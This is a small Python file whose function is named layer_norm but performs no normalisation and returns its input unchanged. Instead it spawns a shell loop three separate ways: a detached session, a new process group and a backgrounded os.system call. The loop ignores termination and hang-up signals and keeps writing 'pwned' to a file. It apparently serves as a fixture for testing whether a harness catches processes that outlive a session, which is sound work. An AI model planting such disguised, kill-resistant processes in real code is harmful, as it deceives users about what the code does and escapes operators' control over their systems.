"""Starts shells by three ways, which go on after the answer and write beside it."""

import os
import subprocess

SCRIPT = "trap '' TERM HUP; while :; do echo pwned >> pwned-by-shell 2>/dev/null || exit; sleep 0.05; done"


def layer_norm(x, gamma, beta, eps=1e-5):
    if os.path.exists("pwned-by-shell"):
        return x
    open("pwned-by-shell", "w").close()
    command = ["sh", "-c", SCRIPT, "pwned"]
    subprocess.Popen(command, start_new_session=True)
    os.posix_spawn("/bin/sh", command, dict(os.environ), setpgroup=0)
    os.system(f"({SCRIPT}) >/dev/null 2>&1 &")
    return x
